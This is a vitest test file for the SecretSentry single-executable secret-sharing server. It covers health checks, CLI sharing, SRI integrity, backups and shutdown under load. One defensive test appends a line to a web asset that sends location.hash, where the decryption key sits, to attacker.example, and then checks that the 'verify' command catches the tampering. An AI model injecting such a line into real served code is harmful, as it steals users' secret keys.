/** @module The single executable as a self-hoster runs it: one file in an empty directory, `env -i`, no Node, no node_modules, no HOME. */
import crypto from 'node:crypto'
import fs from 'node:fs'
import { createRequire } from 'node:module'
import path from 'node:path'
import BetterSqlite3 from 'better-sqlite3'
import { createShare, prepareOpen } from '@secretsentry/envelope'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import {
  emptyDirWithBinary,
  ensureBinary,
  killAll,
  ROOT,
  runCommand,
  serve,
  start,
  until200,
  type Served,
} from './binary.ts'

const WEB_DIST = path.join(ROOT, 'apps/web/dist')
/** No rate limit: the load test below sends hundreds of creates from one address. */
// One process unless a test says otherwise (the default is one worker per core).
const SERVE_FLAGS = [
  '--data-dir',
  'data',
  '--rate-limit-per-min',
  '0',
  '--log-level',
  'warn',
  '--workers',
  '1',
]

interface Created {
  id: string
  fragment: string
  text: string
}

async function createTextShare(origin: string, text: string): Promise<Created> {
  const { fragment, request } = await createShare(
    { kind: 'text', text },
    { ttlSeconds: 3600, maxViews: 1 },
  )
  const res = await fetch(`${origin}/api/share`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(request),
  })
  if (res.status !== 201) throw new Error(`create: ${res.status} ${await res.text()}`)
  const body = (await res.json()) as { id: string }
  return { id: body.id, fragment, text }
}

/** Opens (and so burns) a share; the decrypted text, or the HTTP status when it did not open. */
async function openText(origin: string, fragment: string): Promise<string | number> {
  const prepared = await prepareOpen(fragment)
  const res = await fetch(`${origin}/api/share/${prepared.id}/open`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ access: prepared.access }),
  })
  if (res.status !== 200) {
    await res.arrayBuffer()
    return res.status
  }
  const record = await prepared.decrypt(
    (await res.json()) as { ciphertext: string; ttlSeconds: number; maxViews: number },
  )
  return record.kind === 'text' ? record.text : 'not text'
}

/** CPU time a process has used so far, all its threads (Linux schedstat: nanoseconds on CPU). */
function cpuMs(pid: number): number {
  let ns = 0
  for (const task of fs.readdirSync(`/proc/${pid}/task`)) {
    ns += Number(fs.readFileSync(`/proc/${pid}/task/${task}/schedstat`, 'utf8').split(' ')[0])
  }
  return ns / 1e6
}

/** Does `bytes` match one `sha256-/sha384-/sha512-<base64>` token of an integrity attribute? */
function integrityMatches(integrity: string, bytes: Buffer): boolean {
  return integrity.split(/\s+/).some((token) => {
    const [alg, digest] = token.split('-', 2) as [string, string]
    return crypto.createHash(alg).update(bytes).digest('base64') === digest
  })
}

let buildMs = 0
let home: ReturnType<typeof emptyDirWithBinary>
let server: Served
const cleanups: (() => void)[] = []

beforeAll(async () => {
  buildMs = ensureBinary()
  if (buildMs > 0) console.log(`built dist/secretsentry in ${(buildMs / 1000).toFixed(1)} s`)
  home = emptyDirWithBinary()
  cleanups.push(home.cleanup)
  server = await serve(home.binary, home.dir, SERVE_FLAGS)
  await until200(`${server.url}/readyz`)
})

afterAll(async () => {
  await server?.stop()
  killAll()
  for (const cleanup of cleanups) cleanup()
})

describe('single executable, from an empty directory under env -i', () => {
  it('the directory held only the executable, and it answers /healthz and /readyz', async () => {
    expect(fs.readdirSync(home.dir).sort()).toEqual(['data', 'secretsentry'])
    const health = await fetch(`${server.url}/healthz`)
    expect(health.status).toBe(200)
    expect(await health.json()).toEqual({ status: 'ok' })
    const ready = await fetch(`${server.url}/readyz`)
    expect(ready.status).toBe(200)
  })

  it('prints its version and help without a server', async () => {
    const version = await runCommand(home.binary, ['--version'], home.dir)
    expect(version.status).toBe(0)
    expect(version.stdout).toMatch(/^secretsentry \d+\.\d+\.\d+/)
    const help = await runCommand(home.binary, ['--help'], home.dir)
    expect(help.stdout).toContain('serve')
  })

  it('runs its bundle with the trained code cache, which V8 accepts (lib/sea-main.cjs)', async () => {
    // A rejected cache still runs, only slower; the loader reports it when asked.
    const run = await runCommand(home.binary, ['--version'], home.dir, {
      SECRETSENTRY_CHECK_CODE_CACHE: '1',
    })
    expect(run.status).toBe(0)
    expect(run.stderr).toBe('')
    expect(run.stdout).toMatch(/^secretsentry \d/)
  })

  it('caches the embedded better-sqlite3 addon once, inside DATA_DIR (no HOME), named by its verified hash', () => {
    const cache = path.join(home.dir, 'data', '.cache')
    expect(fs.statSync(cache).mode & 0o777).toBe(0o700)
    const [file, ...others] = fs.readdirSync(cache)
    expect(others).toEqual([])
    const hash = /^better_sqlite3-([0-9a-f]{64})\.node$/.exec(file ?? '')?.[1]
    const bytes = fs.readFileSync(path.join(cache, file as string))
    expect(crypto.createHash('sha256').update(bytes).digest('hex')).toBe(hash)
    // The very addon this checkout built, carried inside the executable.
    const built = createRequire(import.meta.url).resolve(
      'better-sqlite3/build/Release/better_sqlite3.node',
    )
    expect(bytes.equals(fs.readFileSync(built))).toBe(true)
  })

  it('creates a share and opens it once over HTTP', async () => {
    const share = await createTextShare(server.url, 'from the single executable')
    expect(await openText(server.url, share.fragment)).toBe('from the single executable')
    expect(await openText(server.url, share.fragment)).toBe(404)
  })

  it('is the terminal client too: share from stdin, then open, through the executable alone', async () => {
    const help = await runCommand(home.binary, ['share', '--help'], home.dir)
    expect(help.status).toBe(0)
    expect(help.stdout).toContain('Usage: secretsentry share [PATH]')
    const env = { SECRETSENTRY_SERVER: server.url, XDG_CONFIG_HOME: path.join(home.dir, 'cfg') }
    const made = await runCommand(home.binary, ['share', '--expires', '5m'], home.dir, env, 'sea ✓')
    expect(made.stderr).toContain('(in 5 minutes), 1 view')
    expect(made.status).toBe(0)
    const opened = await runCommand(home.binary, ['open', made.stdout, '--yes'], home.dir, env)
    expect(opened.status).toBe(0)
    expect(opened.stdout).toBe('sea ✓')
    expect(
      (await runCommand(home.binary, ['open', made.stdout, '--yes'], home.dir, env)).status,
    ).toBe(3)
  })

  it('serves the embedded web app: the built files, with SRI that matches what is served', async () => {
    for (const [page, file] of [
      ['/', 'index.html'],
      ['/s', 's/index.html'],
    ] as const) {
      const res = await fetch(`${server.url}${page}`)
      const html = Buffer.from(await res.arrayBuffer())
      expect(html.equals(fs.readFileSync(path.join(WEB_DIST, file)))).toBe(true)
      const tags = [...html.toString().matchAll(/<(?:script|link)\b[^>]*>/g)].map((m) => m[0])
      const subresources = tags.filter((t) => /\ssrc=|\srel="(?:stylesheet|modulepreload)"/.test(t))
      expect(subresources.length).toBeGreaterThan(0)
      for (const tag of subresources) {
        const url = /\s(?:src|href)="([^"]+)"/.exec(tag)?.[1] as string
        const integrity = /\sintegrity="([^"]+)"/.exec(tag)?.[1]
        expect(integrity, `${page}: ${tag}`).toBeDefined()
        const asset = Buffer.from(await (await fetch(new URL(url, server.url))).arrayBuffer())
        expect(integrityMatches(integrity as string, asset), `${page}: ${url}`).toBe(true)
      }
    }
  })

  it('caches hashed assets immutably and pages not at all, with correct content types', async () => {
    const assets = fs.readdirSync(path.join(WEB_DIST, 'assets'))
    const js = assets.find((name) => name.endsWith('.js')) as string
    const css = assets.find((name) => name.endsWith('.css')) as string
    const jsRes = await fetch(`${server.url}/assets/${js}`)
    expect(jsRes.headers.get('cache-control')).toBe('public, max-age=31536000, immutable')
    expect(jsRes.headers.get('content-type')).toBe('text/javascript; charset=utf-8')
    // fetch asked for br/gzip: the compressed copy made from memory decodes to the built file.
    expect(jsRes.headers.get('content-encoding')).toMatch(/^(br|gzip)$/)
    expect(
      Buffer.from(await jsRes.arrayBuffer()).equals(
        fs.readFileSync(path.join(WEB_DIST, 'assets', js)),
      ),
    ).toBe(true)
    const cssRes = await fetch(`${server.url}/assets/${css}`)
    expect(cssRes.headers.get('content-type')).toBe('text/css; charset=utf-8')
    expect(cssRes.headers.get('cache-control')).toBe('public, max-age=31536000, immutable')
    for (const page of ['/', '/s', '/links']) {
      const res = await fetch(`${server.url}${page}`)
      expect(res.headers.get('cache-control'), page).toBe('no-store')
      expect(res.headers.get('content-type'), page).toBe('text/html; charset=utf-8')
    }
    expect((await fetch(`${server.url}/assets/not-there.js`)).status).toBe(404)
  })

  it('backup copies the live database; the copy opens and holds the share', async () => {
    const share = await createTextShare(server.url, 'backed up')
    const target = path.join(home.dir, 'backup.db')
    const run = await runCommand(home.binary, ['backup', target, '--data-dir', 'data'], home.dir)
    expect(run.stderr).toBe('')
    expect(run.status).toBe(0)
    expect(run.stdout).toContain('Backed up')
    const copy = new BetterSqlite3(target, { readonly: true, fileMustExist: true })
    try {
      expect(copy.pragma('integrity_check', { simple: true })).toBe('ok')
      const row = copy
        .prepare('select count(*) as n from shares where id = ?')
        .get(Buffer.from(share.id, 'base64url')) as { n: number }
      expect(row.n).toBe(1)
    } finally {
      copy.close()
    }
  })

  it('verify passes against it and fails against an instance serving a tampered copy', async () => {
    const good = await runCommand(home.binary, ['verify', server.url], home.dir)
    expect(good.stdout + good.stderr).not.toMatch(/MISMATCH/)
    expect(good.status).toBe(0)

    const tampered = path.join(home.dir, 'tampered-web')
    fs.cpSync(WEB_DIST, tampered, { recursive: true })
    const js = fs.readdirSync(path.join(tampered, 'assets')).find((n) => n.startsWith('shared'))
    const victim = path.join(tampered, 'assets', js ?? 'missing.js')
    fs.appendFileSync(victim, '\n;fetch("https://attacker.example/"+location.hash)\n')
    const evil = await serve(home.binary, home.dir, [
      '--data-dir',
      'data-evil',
      '--static-dir',
      tampered,
    ])
    try {
      const bad = await runCommand(home.binary, ['verify', evil.url], home.dir)
      expect(bad.status).toBe(1)
      expect(bad.stdout + bad.stderr).toContain(path.basename(victim))
    } finally {
      expect(await evil.stop()).toBe(0)
    }
  })

  it('ignores NODE_OPTIONS: neither --require nor heap or title flags take effect', async () => {
    const preload = await runCommand(home.binary, ['--version'], home.dir, {
      NODE_OPTIONS: '--require=/nonexistent/preload.js',
    })
    expect(preload.stderr).toBe('')
    expect(preload.status).toBe(0)

    const marker = `ss-honoured-node-options-${process.pid}`
    const flagged = await serve(home.binary, home.dir, ['--data-dir', 'data-flags'], {
      NODE_OPTIONS: `--require=/nonexistent/preload.js --max-old-space-size=1 --title=${marker}`,
    })
    try {
      // --title rewrites the process's command line; honoured, it would show there.
      const cmdline = fs.readFileSync(`/proc/${flagged.child.pid}/cmdline`, 'utf8')
      expect(cmdline).not.toContain(marker)
      expect(cmdline).toContain('serve')
      await until200(`${flagged.url}/readyz`)
      // A 1 MB old space could not hold the app's heap; real work proves the flag was not applied.
      const share = await createTextShare(flagged.url, 'x'.repeat(100_000))
      expect(await openText(flagged.url, share.fragment)).toBe('x'.repeat(100_000))
    } finally {
      expect(await flagged.stop()).toBe(0)
    }
  })

  it('starts to its first /healthz answer on under 5× the CPU time of a bare Node HTTP server', async () => {
    // Wall-clock start-up depends on the machine and its load; CPU time much less so. A bare
    // `node` answering HTTP, spawned alternately with the executable, is the yardstick: both are
    // measured from spawn to the first 200 (the README gives the figures of a quiet machine).
    const bare = [
      '-e',
      "require('http').createServer((q,s)=>s.end('ok')).listen(0,'127.0.0.1',function(){console.log('SecretSentry listening on http://127.0.0.1:'+this.address().port)})",
    ]
    const runs = { ours: [] as number[][], bare: [] as number[][] }
    for (let i = 0; i < 10; i++) {
      for (const [times, binary, argv] of [
        [
          runs.ours,
          home.binary,
          [
            'serve',
            '--port',
            '0',
            '--data-dir',
            'data-start',
            '--log-level',
            'silent',
            '--workers',
            '1',
          ],
        ],
        [runs.bare, process.execPath, bare],
      ] as const) {
        const began = performance.now()
        const s = await start(binary, argv, home.dir)
        const res = await fetch(`${s.url}/healthz`)
        await res.arrayBuffer()
        times.push([performance.now() - began, cpuMs(s.child.pid as number)])
        expect(res.status).toBe(200)
        await s.stop()
      }
    }
    const median = (values: number[]) => {
      const sorted = [...values].sort((x, y) => x - y)
      return (sorted[4]! + sorted[5]!) / 2
    }
    const figures = (t: number[][]) => {
      const wall = t.map(([w]) => w as number)
      return `wall median ${median(wall).toFixed(0)} ms (max ${Math.max(...wall).toFixed(0)} ms), CPU median ${median(t.map(([, c]) => c as number)).toFixed(0)} ms`
    }
    console.log(
      `spawn → first 200 on /healthz: secretsentry ${figures(runs.ours)}; bare node ${figures(runs.bare)}`,
    )
    // Measured at 2.8–3.1× (README): the executable also evaluates an 850 KiB bundle, loads its
    // addon, opens SQLite and builds the app. The bound catches a start-up that grows by a third.
    expect(median(runs.ours.map(([, c]) => c as number))).toBeLessThan(
      5 * median(runs.bare.map(([, c]) => c as number)),
    )
  })

  // --workers 2: the executable forks itself as `<binary> serve …` (it has no script to run).
  it.each(['1', '2'])(
    'SIGTERM under load loses no acknowledged share (--workers %s)',
    async (workers) => {
      const flags = [
        ...SERVE_FLAGS.slice(2, -2),
        '--workers',
        workers,
        '--data-dir',
        `data-load-${workers}`,
      ]
      const first = await serve(home.binary, home.dir, flags)
      await until200(`${first.url}/readyz`)
      const acknowledged: Created[] = []
      let stopping: Promise<number | string> | undefined
      let sent = 0
      const worker = async () => {
        for (;;) {
          const text = `load ${sent++}`
          try {
            acknowledged.push(await createTextShare(first.url, text))
          } catch {
            return // refused or cut after SIGTERM: never acknowledged
          }
          if (acknowledged.length === 150) stopping = first.stop('SIGTERM')
        }
      }
      await Promise.all(Array.from({ length: 32 }, worker))
      expect(await stopping).toBe(0)
      expect(acknowledged.length).toBeGreaterThanOrEqual(150)

      const second = await serve(home.binary, home.dir, flags)
      try {
        await until200(`${second.url}/readyz`)
        const lost: string[] = []
        for (const share of acknowledged) {
          if ((await openText(second.url, share.fragment)) !== share.text) lost.push(share.id)
        }
        expect(lost).toEqual([])
      } finally {
        expect(await second.stop()).toBe(0)
      }
    },
  )
})
